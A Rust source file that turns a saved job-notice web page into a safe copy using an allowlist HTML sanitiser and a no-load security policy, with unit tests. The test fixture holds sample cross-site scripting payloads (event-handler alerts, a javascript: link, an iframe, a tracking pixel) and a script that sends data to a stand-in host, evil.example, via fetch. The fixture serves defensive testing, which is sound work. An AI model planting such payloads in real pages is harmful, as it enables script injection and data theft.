//! A saved notice page made safe to open. The page the candidate saved may carry scripts, event
//! handlers, forms, frames, tracking pictures and remote styles; opening it as it is would run
//! them and tell the site the notice was read again. What is opened is a copy that keeps the
//! notice's text and structure (headings, paragraphs, lists, tables, emphasis) and nothing that
//! runs or loads: an allowlist, so a tag nobody thought of is dropped, not kept.

use std::collections::HashSet;

/// Tags kept, with no attribute but a table cell's span. Links keep their words, not their
/// address: following one from the copy is not how a candidate reaches the posting.
const KEPT_TAGS: &[&str] = &[
    "p",
    "br",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "caption",
    "strong",
    "b",
    "em",
    "i",
    "u",
    "sub",
    "sup",
    "blockquote",
    "pre",
    "code",
    "hr",
    "div",
    "span",
    "section",
    "article",
    "header",
    "footer",
    "main",
];

/// Tags dropped with everything inside them: code, styles, embedded documents and controls,
/// whose text is not the notice's.
const DROPPED_WITH_CONTENT: &[&str] = &[
    "script", "style", "title", "noscript", "template", "iframe", "frame", "frameset", "object",
    "embed", "applet", "svg", "math", "select", "textarea", "button",
];

/// The page as a standalone document holding only what [`KEPT_TAGS`] allows, in UTF-8, with a
/// policy that forbids anything to run or load even if a browser read more into it.
pub fn sanitised_page(html: &str) -> String {
    let body = ammonia::Builder::empty()
        .tags(KEPT_TAGS.iter().copied().collect())
        .clean_content_tags(DROPPED_WITH_CONTENT.iter().copied().collect())
        .tag_attributes(
            [
                ("td", ["colspan", "rowspan"]),
                ("th", ["colspan", "rowspan"]),
            ]
            .into_iter()
            .map(|(tag, attrs)| (tag, attrs.into_iter().collect::<HashSet<_>>()))
            .collect(),
        )
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::new())
        .link_rel(None)
        .strip_comments(true)
        .clean(html)
        .to_string();
    format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\
         <meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'\">\
         </head><body>\n{body}\n</body></html>\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = r#"<!DOCTYPE html><html><head><title>Track me</title>
<script>document.title = 'PWNED'; fetch('http://evil.example/steal');</script>
<style>body { background: url(http://evil.example/bg.png) }</style>
<link rel="stylesheet" href="http://evil.example/site.css">
<meta http-equiv="refresh" content="0; url=http://evil.example/">
</head><body onload="document.title='PWNED'">
<h1 style="color:red" class="x" id="t">Criminal Intelligence Analyst</h1>
<p onclick="alert(1)">Duty station: Lyon, <strong>France</strong></p>
<img src="http://evil.example/pixel.gif" onerror="alert(2)">
<a href="javascript:alert(3)">Apply now</a> <a href="https://example.org/job">Details</a>
<form action="http://evil.example/post"><input name="q" value="x"><button>Send</button></form>
<iframe src="http://evil.example/frame">inside the frame</iframe>
<svg onload="alert(4)"><text>drawn</text></svg>
<table><tr><th colspan="2" onmouseover="x()">Grade</th></tr><tr><td>G6</td><td>Fixed term</td></tr></table>
<ul><li>Good command of English</li></ul>
<!-- a comment with <script>alert(5)</script> -->
</body></html>"#;

    #[test]
    fn a_hostile_page_keeps_its_text_and_nothing_that_runs_or_loads() {
        let page = sanitised_page(HOSTILE);
        let lower = page.to_ascii_lowercase();
        for gone in [
            "<script",
            "pwned",
            "onload",
            "onclick",
            "onerror",
            "onmouseover",
            "javascript:",
            "http://",
            "https://",
            "<img",
            "<form",
            "<input",
            "<iframe",
            "<svg",
            "<link",
            "<style",
            "refresh",
            "style=",
            "class=",
            "href",
            "track me",
            "alert(",
        ] {
            assert!(!lower.contains(gone), "{gone} left in {page}");
        }
        for kept in [
            "<h1>Criminal Intelligence Analyst</h1>",
            "Duty station: Lyon, <strong>France</strong>",
            "Apply now",
            "Details",
            "<th colspan=\"2\">Grade</th>",
            "<li>Good command of English</li>",
        ] {
            assert!(page.contains(kept), "{kept} missing from {page}");
        }
        assert!(page.contains("content=\"default-src 'none'\""));
    }

    #[test]
    fn accents_and_markup_in_text_stay_text() {
        let page = sanitised_page("<p>Date limite : 5 décembre &lt;script&gt; é</p>");
        assert!(
            page.contains("<p>Date limite : 5 décembre &lt;script&gt; é</p>"),
            "{page}"
        );
    }
}
